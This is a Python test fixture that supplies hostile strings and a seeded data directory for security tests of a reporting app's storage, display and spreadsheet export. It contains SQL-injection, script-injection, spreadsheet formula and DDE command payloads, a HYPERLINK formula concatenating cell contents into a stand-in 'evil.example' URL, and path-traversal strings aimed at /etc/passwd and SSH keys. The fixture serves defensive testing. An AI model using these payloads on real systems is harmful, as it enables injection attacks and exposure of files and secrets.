"""Hostile inputs, shared by the security tests: the classes of string an attacker (or a
careless spreadsheet) puts into names, URL parameters and command-line options, and a data
directory whose names are such strings.

The names are written straight into storage (as data imported before the importer refused
control characters would be), so the display side is tested on its own.
"""

from __future__ import annotations

import shutil
from datetime import date
from decimal import Decimal
from pathlib import Path

import pyarrow as pa

from impact.storage.schema import TABLES
from impact.storage import compaction
from impact.storage.store import DataStore

ROOT = Path(__file__).resolve().parent.parent

EVIL_LINK = '<a href="https://evil.example/">点击领取</a>'
EVIL_SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
EVIL_MARKDOWN = "[点我](https://evil.example/md) **粗体** `code` $x$"
RTL = "\u202etxt.exe"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
FORMULA_CMD = "=cmd|' /C calc'!A0"

# Input classes and examples: every one must be treated as plain data, everywhere.
INPUTS = {
    "sql injection": ["' OR 1=1 --", "珠海协作者'; DROP TABLE activities; --",
                      "1; SELECT * FROM finance", '" OR ""="'],
    "html/script": [EVIL_LINK, EVIL_SCRIPT, "<b>bold</b>", "javascript:alert(1)"],
    "markdown": [EVIL_MARKDOWN],
    "formula": [FORMULA, FORMULA_CMD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
    "very long": ["长" * 5000, "x" * 100_000],
    "unicode oddities": [RTL, "\u200f\u200e\u2066x\u2069", "\x00", "a\x00b", "e\u0301\u0301\u0301",
                         "\ufeff", "\U0001f600" * 50, "\ud7ff"],
    "path-like": ["../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "data/../..",
                  "file:///etc/passwd", "s3://bucket/x", "~/.ssh/id_rsa", "NUL", "con"],
    "format strings": ["{0}", "{lang}", "%s%s%s", "%{y}", "${HOME}"],
    "numbers": ["-1", "0", "99999999999999999999", "1e309", "NaN", "2020.5", "２０２０"],
    "empty": ["", " ", "\n"],
}


def all_inputs() -> list[tuple[str, str]]:
    return [(cls, value) for cls, values in INPUTS.items() for value in values]


def hostile_data(target: Path) -> Path:
    """A copy of the demo data plus 2020 records of 珠海协作者 whose names are hostile, large
    enough (40,000 person-times) to be among the projects a capped chart draws."""
    shutil.copytree(ROOT / "data", target)
    store = DataStore(target)
    names = [(EVIL_LINK, EVIL_SCRIPT), (EVIL_MARKDOWN, "儿童服务"), (RTL, FORMULA)]
    acts = [{"activity_id": f"EVIL-{i}", "date": date(2020, 6, 1 + i), "org": "珠海协作者",
             "project": project, "program_area": area, "activity_type": FORMULA_CMD,
             "sessions": 3, "beneficiaries": 40_000 + i, "volunteers": 9,
             "volunteer_minutes": 600}
            for i, (project, area) in enumerate(names)]
    # An organisation whose name is a formula, with a NUL in a project name (openpyxl used to
    # raise IllegalCharacterError on it and take the /report page down for everyone).
    acts.append({"activity_id": "EVIL-ORG", "date": date(2020, 7, 1), "org": FORMULA_CMD,
                 "project": "a\x00b", "program_area": None, "activity_type": None,
                 "sessions": 1, "beneficiaries": 3, "volunteers": 0, "volunteer_minutes": 0})
    compaction.append(store, "activities", pa.Table.from_pylist(acts,
                                                    schema=TABLES["activities"].arrow_schema))
    money = [{"txn_id": f"EVIL-F{i}", "date": date(2020, 6, 1 + i), "org": "珠海协作者",
              "flow": "income", "line": "donation", "source_type": "enterprise",
              "funder": funder,
              "project": EVIL_LINK, "restricted": True, "amount": Decimal("1000.00")}
             for i, funder in enumerate((FORMULA, FORMULA_CMD, EVIL_LINK, RTL))]
    compaction.append(store, "finance", pa.Table.from_pylist(money, schema=TABLES["finance"].arrow_schema))
    return target
